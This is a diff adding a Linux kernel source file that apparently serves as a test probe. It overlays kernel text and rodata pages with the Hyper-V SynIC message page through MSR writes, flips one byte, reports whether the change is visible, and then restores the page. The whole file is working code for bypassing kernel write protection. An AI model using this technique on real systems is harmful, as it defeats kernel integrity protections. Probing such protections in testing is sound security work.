@@ -1,0 +1,60 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Attacks with an overlay page of the hypervisor: the SynIC's message page of this CPU is filled with what the attacker
+ * wants, and then moved over a page of the kernel. RAM stays as it is; what all CPUs see there does not.
+ */
+#include <linux/gfp.h>
+#include <linux/irqflags.h>
+#include <linux/mm.h>
+#include <linux/string.h>
+#include <asm/msr.h>
+
+#include "attack.h"
+
+#define MSR_SIMP    0x40000083
+#define PAGE_ENABLE 1
+
+/* A copy of the page around @seen with one byte changed, so that the kernel can go on with it. */
+static bool cover(const u8 *seen, struct attack_story *story)
+{
+	const u8 *page = (const u8 *)((unsigned long)seen & PAGE_MASK);
+	u8 *own = (u8 *)get_zeroed_page(GFP_KERNEL);
+	const u8 old = READ_ONCE(*seen);
+	unsigned long flags;
+	bool through = false;
+	u64 before;
+
+	if (!own || rdmsrl_safe(MSR_SIMP, &before)) {
+		attack_tell(story, "no page, or no SynIC");
+		free_page((unsigned long)own);
+		return false;
+	}
+	local_irq_save(flags);
+	if (wrmsrl_safe(MSR_SIMP, virt_to_phys(own) | PAGE_ENABLE)) {
+		attack_tell(story, "#GP at the WRMSR for a page of the attacker's own");
+	} else {
+		memcpy(own, page, PAGE_SIZE);
+		own[offset_in_page(seen)] = old ^ 1;
+		if (wrmsrl_safe(MSR_SIMP, __pa_symbol((unsigned long)page) | PAGE_ENABLE)) {
+			attack_tell(story, "#GP at the WRMSR that moves it there");
+		} else {
+			through = READ_ONCE(*seen) != old;
+			attack_tell(story, "the byte %s", through ? "changed" : "stayed as it was");
+		}
+		memset(own, 0, PAGE_SIZE);
+		wrmsrl_safe(MSR_SIMP, before);
+	}
+	local_irq_restore(flags);
+	free_page((unsigned long)own);
+	return through;
+}
+
+bool attack_cover_text(struct attack_story *story)
+{
+	return cover((const u8 *)attack_text, story);
+}
+
+bool attack_cover_rodata(struct attack_story *story)
+{
+	return cover((const u8 *)attack_rodata, story);
+}
